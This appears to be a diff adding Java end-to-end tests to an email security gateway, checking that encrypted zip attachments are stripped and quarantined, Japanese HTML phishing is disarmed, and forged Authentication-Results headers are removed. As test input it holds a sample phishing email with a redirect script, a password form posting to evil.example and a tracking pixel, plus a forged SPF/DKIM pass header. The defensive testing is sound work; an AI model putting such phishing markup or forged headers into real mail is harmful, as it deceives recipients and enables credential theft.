@@ -121,6 +121,9 @@ class GatewayEndToEndTest {
     @Autowired
     io.mamori.gateway.contact.JdbcSenderHistory senderHistory;
 
+    @Autowired
+    io.mamori.core.policy.PolicyHolder policyHolder;
+
     @LocalServerPort
     int httpPort;
 
@@ -521,6 +524,138 @@ class GatewayEndToEndTest {
             Thread.sleep(100);
         }
         throw new AssertionError("condition not met within 20 s");
+    }
+
+    // ---- disarm, attachment strip, forged Authentication-Results ---------------------------------------------
+
+    /** Runs {@code body} with {@code extra} appended to the test policy, and puts the plain policy back after. */
+    private void withPolicy(String extra, java.util.function.Predicate<io.mamori.core.policy.Policy> applied,
+            ThrowingRunnable body) throws Exception {
+        try {
+            Files.writeString(POLICY, policy("example.co.jp") + extra, StandardCharsets.UTF_8);
+            waitFor(() -> applied.test(policyHolder.current()) ? "applied" : null);
+            body.run();
+        } finally {
+            Files.writeString(POLICY, policy("example.co.jp"), StandardCharsets.UTF_8);
+            waitFor(() -> policyHolder.current().disarm().equals(io.mamori.core.policy.Policy.Disarm.DEFAULT)
+                    && policyHolder.current().attachments().equals(io.mamori.core.policy.Policy.Attachments.DEFAULT)
+                    ? "restored" : null);
+        }
+    }
+
+    interface ThrowingRunnable {
+        void run() throws Exception;
+    }
+
+    private static io.mamori.core.message.ParsedMessage parsed(ReceivedMessage m) throws IOException {
+        io.mamori.core.message.ParsedMessage p = new io.mamori.core.message.MessageParser()
+                .parse(new java.io.ByteArrayInputStream(m.data()));
+        p.close();
+        return p;
+    }
+
+    @Test
+    void encryptedZipIsStrippedOnTheWayAndItsQuarantinedOriginalArrivesWhenReleased() throws Exception {
+        byte[] zip;
+        try (var in = GatewayEndToEndTest.class.getResourceAsStream("/files/zip4j/store_compression_made_with_v1.3.3.zip")) {
+            zip = in.readAllBytes();
+        }
+        String zipBase64 = java.util.Base64.getMimeEncoder().encodeToString(zip);
+        // message() sends the string's chars as bytes, so the UTF-8 text goes in as its bytes.
+        String text = new String("見積書を送ります strip-1".getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
+        String body = "--S1\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n" + text + "\r\n"
+                + "--S1\r\nContent-Type: application/zip; name=\"mitsumori.zip\"\r\n"
+                + "Content-Disposition: attachment; filename=\"mitsumori.zip\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+                + zipBase64 + "\r\n--S1--\r\n";
+        byte[] sent = message("strip-1", "quote", "Content-Type: multipart/mixed; boundary=\"S1\"\r\n", body);
+
+        withPolicy("attachments:\n  encrypted: strip\n",
+                p -> p.attachments().encrypted() == io.mamori.core.policy.Policy.Attachments.Handling.STRIP, () -> {
+                    assertThat(smtplib("sato@example.co.jp", sent)).isEqualTo("SENT");
+
+                    ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("strip-1@partner.example"),
+                            Duration.ofSeconds(30));
+                    String delivered = got.dataAsString();
+                    var verdict = Pattern.compile("X-Mamori-Verdict: TAG; [^\r\n]*findings=ENCRYPTED_ARCHIVE; stripped=1;"
+                            + " original=([0-9A-Z]{26})\r\n").matcher(delivered);
+                    assertThat(verdict.find()).as(delivered).isTrue();
+                    String originalId = verdict.group(1);
+                    assertThat(delivered).doesNotContain(zipBase64.substring(0, 60));
+                    var message = parsed(got);
+                    assertThat(message.attachments()).isEmpty();
+                    assertThat(message.parts()).extracting(io.mamori.core.message.MimePart::contentType)
+                            .containsExactly("text/plain", "text/plain");
+                    assertThat(message.parts().get(0).text()).contains("見積書を送ります strip-1");
+                    assertThat(message.parts().get(1).text())
+                            .contains("添付ファイル「mitsumori.zip」は安全のため削除されました")
+                            .contains("パスワード付き（暗号化された）ファイル")
+                            .contains("元のメールは隔離して保管されています（ID: " + originalId + "）")
+                            .contains("The attachment \"mitsumori.zip\" was removed");
+
+                    StoredMessage original = store.find(originalId).orElseThrow();
+                    assertThat(original.state()).isEqualTo(MessageState.QUARANTINED);
+                    assertThat(original.findingCodes()).isEqualTo("ENCRYPTED_ARCHIVE");
+                    String token = Files.readString(DATA.resolve("api-token")).trim();
+                    HttpResponse<String> released = HttpClient.newHttpClient().send(
+                            HttpRequest.newBuilder(api("/api/v1/messages/" + originalId + "/release"))
+                                    .header("Authorization", "Bearer " + token).POST(HttpRequest.BodyPublishers.noBody()).build(),
+                            HttpResponse.BodyHandlers.ofString());
+                    assertThat(released.statusCode()).as(released.body()).isEqualTo(200);
+
+                    ReceivedMessage releasedCopy = awaitDownstream(m -> m.dataAsString().contains("strip-1@partner.example"),
+                            Duration.ofSeconds(30));
+                    assertThat(releasedCopy.dataAsString()).contains("X-Mamori-Verdict: QUARANTINE;").contains("stripped-copy=")
+                            .contains(zipBase64.substring(0, 60));
+                    assertThat(parsed(releasedCopy).attachments()).extracting(io.mamori.core.message.MimePart::filename)
+                            .containsExactly("mitsumori.zip");
+                });
+    }
+
+    @Test
+    void japaneseHtmlPhishingIsDisarmedOnTheWay() throws Exception {
+        String html = "<html><head><script>location='http://evil.example/'</script></head><body onload=\"steal()\">"
+                + "<p>お客様のアカウントは停止されました。<a href=\"https://login.example-bank.co/verify\">こちら</a>から"
+                + "本人確認してください。</p><img src=\"http://track.example/p.gif\"><form action=\"https://evil.example/p\">"
+                + "<input type=password name=pw></form> disarm-1</body></html>\r\n";
+        String body = new String(html.getBytes("ISO-2022-JP"), StandardCharsets.ISO_8859_1);
+        byte[] sent = message("disarm-1", "=?ISO-2022-JP?B?GyRCPUVNVxsoQg==?=",
+                "Content-Type: text/html; charset=ISO-2022-JP\r\nContent-Transfer-Encoding: 7bit\r\n", body);
+
+        withPolicy("disarm:\n  enabled: true\n", p -> p.disarm().enabled(), () -> {
+            assertThat(smtplib("sato@example.co.jp", sent)).isEqualTo("SENT");
+
+            ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("disarm-1@partner.example"),
+                    Duration.ofSeconds(30));
+            assertThat(got.dataAsString()).containsPattern("X-Mamori-Verdict: [A-Z]+; [^\r\n]*; disarmed=1\r\n")
+                    .contains("Content-Type: text/html; charset=utf-8");
+            String disarmed = parsed(got).parts().get(0).text();
+            assertThat(disarmed).doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<form")
+                    .doesNotContainIgnoringCase("<input").doesNotContainIgnoringCase("onload")
+                    .doesNotContain("track.example").doesNotContainIgnoringCase("href=")
+                    .contains("お客様のアカウントは停止されました。こちら [hxxps://login[.]example-bank[.]co/verify]から本人確認してください。")
+                    .contains("このメールは安全のため無害化されました");
+        });
+    }
+
+    @Test
+    void forgedAuthenticationResultsClaimingThisGatewayAreRemovedAndOthersKept() throws Exception {
+        String forged = "Authentication-Results: mamori.test; spf=pass smtp.mailfrom=bank.example;\r\n"
+                + "\tdkim=pass header.d=bank.example; dmarc=pass header.from=bank.example\r\n";
+        String theirs = "Authentication-Results: mx.partner.example; spf=pass smtp.mailfrom=partner.example\r\n";
+        byte[] clean = plainJapanese("authres-1");
+        byte[] sent = (forged + theirs + new String(clean, StandardCharsets.ISO_8859_1)).getBytes(StandardCharsets.ISO_8859_1);
+
+        assertThat(smtplib("sato@example.co.jp", sent)).isEqualTo("SENT");
+
+        ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("authres-1"), Duration.ofSeconds(30));
+        String text = new String(got.data(), StandardCharsets.ISO_8859_1);
+        var added = Pattern.compile("Received: from [^\r\n]+\r\n\tby mamori\\.test \\(Mamori\\) with ESMTP id [0-9A-Z]{26}\r\n"
+                + "\tfor <[^>]+>; [^\r\n]+\r\n"
+                + "Authentication-Results: mamori\\.test; spf=none [^\r\n]+\r\n"
+                + "X-Mamori-Verdict: DELIVER; score=0\\.00; findings=none; forged-authres-removed=1\r\n").matcher(text);
+        assertThat(added.lookingAt()).as(text).isTrue();
+        assertThat(text.substring(added.end())).as("the sender's bytes without the forged field, byte for byte")
+                .isEqualTo(theirs + new String(clean, StandardCharsets.ISO_8859_1));
     }
 
     private HttpResponse<String> api(String method, String path, String json) throws Exception {
